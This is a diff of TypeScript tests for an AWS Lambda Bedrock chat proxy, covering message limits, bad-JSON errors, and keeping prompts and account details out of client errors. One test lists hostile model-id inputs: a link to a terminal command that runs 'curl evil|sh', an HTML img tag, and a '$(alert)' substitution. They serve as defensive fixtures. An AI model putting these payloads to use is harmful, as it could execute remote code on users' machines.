@@ -158,6 +158,57 @@ describe('infra/lambda handler: validation before the first byte', () => {
     assert.equal(calls[0].input.inferenceConfig?.maxTokens, 5);
   });
 
+  it('more messages than MAX_MESSAGES → 400 with the limit, Bedrock never called', async () => {
+    const turns = (n: number) => Array.from({ length: n }, (_, i) => ({ role: i % 2 === 0 ? 'user' : 'assistant', content: `t${i}` }));
+    const over = await run(answer('never'), event({ messages: turns(5) }), { cfg: { maxMessages: 3 } });
+    assert.equal(over.result.status, 400);
+    assert.deepEqual(JSON.parse(over.result.body).error, {
+      code: 'BadRequest',
+      message: '"messages" has 5 entries; this endpoint accepts at most 3. Start a new conversation or leave out earlier turns.',
+    });
+    assert.equal(over.calls.length, 0);
+    const at = await run(answer('ok'), event({ messages: turns(3) }), { cfg: { maxMessages: 3 } });
+    assert.equal(at.result.status, 200);
+    // The default (no MAX_MESSAGES) is 200.
+    const big = { maxBodyBytes: 1 << 20, maxMessages: readConfig({}).maxMessages };
+    assert.equal((await run(answer('never'), event({ messages: turns(201) }), { cfg: big })).result.status, 400);
+    assert.equal((await run(answer('ok'), event({ messages: turns(199) }), { cfg: big })).result.status, 200);
+  });
+
+  it('bad JSON: a fixed message that never quotes the body (JSON.parse quotes it)', async () => {
+    for (const body of ['SECRET prompt, not JSON at all', '{"prompt": "SECRET prompt" oops}', "{'prompt': 'SECRET'}"]) {
+      let parserSays = '';
+      try {
+        JSON.parse(body);
+      } catch (err) {
+        parserSays = (err as Error).message;
+      }
+      const { result } = await run(answer('never'), event(body));
+      const message = JSON.parse(result.body).error.message as string;
+      assert.match(message, /^Request body is not valid JSON( \(at position \d+\))?\.$/);
+      assert.doesNotMatch(message, /SECRET/);
+      if (/SECRET/.test(parserSays)) assert.notEqual(message, parserSays, 'the parser quoted the body; we did not');
+    }
+  });
+
+  it('ModelNotAllowed never echoes a requested id that is not a plain model id', async () => {
+    const hostile = [
+      '[Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
+      'meta.llama3 <img src=x>',
+      `meta.${'x'.repeat(100)}`,
+      'model\nwith a newline',
+      '$(alert) meta',
+    ];
+    for (const modelId of hostile) {
+      const { result } = await run(answer('never'), event({ prompt: 'x', modelId }));
+      const body = JSON.parse(result.body) as { error: { code: string; message: string } };
+      assert.equal(body.error.code, 'ModelNotAllowed');
+      assert.equal(body.error.message, `The requested model is not allowed by this endpoint. Allowed: ${MODEL}, ${OTHER}.`);
+    }
+    const plain = await run(answer('never'), event({ prompt: 'x', modelId: 'arn:aws:bedrock:us-east-1::foundation-model/meta.llama3-8b' }));
+    assert.match(JSON.parse(plain.result.body).error.message, /^Model "arn:aws:bedrock:us-east-1::foundation-model\/meta\.llama3-8b" is not allowed/);
+  });
+
   it('decodes a base64 body', async () => {
     const body = Buffer.from(JSON.stringify({ prompt: '日本語で' })).toString('base64');
     const { calls, result } = await run(answer('ok'), event(body, 'text/event-stream', { isBase64Encoded: true }));
@@ -269,6 +320,62 @@ describe('infra/lambda handler: errors', () => {
       if (name.endsWith('ProviderError')) assert.match(body.error.message, /execution role/);
     });
   }
+
+  const ACCOUNT = '123456789012';
+  const ROLE = `arn:aws:sts::${ACCOUNT}:assumed-role/AskBedrock-ChatFunctionServiceRole-1A2B3C/AskBedrock-ChatFunction-4D5E6F`;
+  const DENIED = `User: ${ROLE} is not authorized to perform: bedrock:InvokeModelWithResponseStream on resource: arn:aws:bedrock:us-east-1:${ACCOUNT}:inference-profile/${MODEL} because no identity-based policy allows the bedrock:InvokeModelWithResponseStream action`;
+
+  it('AccessDenied: the client gets a hint without account or role; the log gets the full text', async () => {
+    const { result, logs } = await run(named('AccessDeniedException', DENIED), event({ prompt: 'hi' }));
+    assert.equal(result.status, 403);
+    const message = JSON.parse(result.body).error.message as string;
+    assert.match(message, /Bedrock denied access.*Bedrock console \(Model access\).*function's log/);
+    assert.doesNotMatch(result.body, new RegExp(`${ACCOUNT}|assumed-role|arn:aws`));
+    const line = JSON.parse(logs[0]) as Record<string, unknown>;
+    assert.equal(line.errorMessage, message);
+    assert.equal(line.errorDetail, DENIED);
+  });
+
+  it('AccessDenied after text: the error event carries the hint only', async () => {
+    const { result } = await run(async function* () {
+      yield delta('some text');
+      throw named('accessDeniedException', DENIED);
+    }, event({ prompt: 'hi' }));
+    const last = sseEvents(result.body).at(-1) as { code: string; message: string };
+    assert.equal(last.code, 'AccessDeniedException');
+    assert.doesNotMatch(last.message, new RegExp(`${ACCOUNT}|assumed-role`));
+  });
+
+  it("Bedrock text that quotes the request: never in the client's message, in the log only with LOG_PROMPTS", async () => {
+    const prompt = `Please summarise SECRET-${'the quarterly numbers for the board '.repeat(8)}now`;
+    const system = `You are SECRET-SYSTEM ${'and always answer in formal English '.repeat(3)}`;
+    const quoting = `Malformed input request: #/messages/0/content/0/text: value "${prompt}" and system "${system}" were rejected, account ${ACCOUNT}.`;
+    const ev = event({ prompt, system });
+    const substrings = (text: string) => Array.from({ length: text.length - 39 }, (_, i) => text.slice(i, i + 40));
+    const echoes = (text: string) => [...substrings(prompt), ...substrings(system)].filter((piece) => text.includes(piece));
+
+    const before = await run(named('ValidationException', quoting), ev);
+    assert.equal(before.result.status, 400);
+    const message = JSON.parse(before.result.body).error.message as string;
+    assert.match(message, /^Malformed input request: /, 'what Bedrock said is still there');
+    assert.deepEqual(echoes(message), []);
+    assert.ok(message.length <= 200, `short: ${message.length}`);
+    assert.deepEqual(echoes(before.logs[0]), [], 'the log does not keep the prompt by default');
+    assert.match(JSON.parse(before.logs[0]).errorDetail, /Malformed input request/);
+
+    const after = await run(async function* () {
+      yield delta('some text');
+      throw named('validationException', quoting);
+    }, ev);
+    const last = sseEvents(after.result.body).at(-1) as { code: string; message: string };
+    assert.equal(last.code, 'ValidationException');
+    assert.deepEqual(echoes(last.message), []);
+    assert.doesNotMatch(last.message, new RegExp(ACCOUNT));
+
+    const logged = await run(named('ValidationException', quoting), ev, { cfg: { logPrompts: true } });
+    assert.equal(JSON.parse(logged.logs[0]).errorDetail, quoting, 'LOG_PROMPTS keeps the full text');
+    assert.deepEqual(echoes(JSON.parse(logged.result.body).error.message), [], 'the client never gets it');
+  });
 
   it('an in-stream exception before any text still gets its HTTP status', async () => {
     const { result } = await run(async function* () {
@@ -383,6 +490,9 @@ describe('infra/lambda config and export', () => {
     assert.equal(c.logPrompts, false);
     assert.deepEqual(readConfig({ MODEL_ID: 'x', ALLOWED_MODEL_IDS: 'a' }).allowedModelIds, ['x', 'a']);
     assert.throws(() => readConfig({ MAX_BODY_BYTES: 'lots' }), /MAX_BODY_BYTES/);
+    assert.equal(c.maxMessages, 200);
+    assert.equal(readConfig({ MAX_MESSAGES: '12' }).maxMessages, 12);
+    assert.throws(() => readConfig({ MAX_MESSAGES: '0' }), /MAX_MESSAGES/);
   });
 
   it('outside Lambda (no awslambda runtime) the default export is undefined, not a crash', () => {
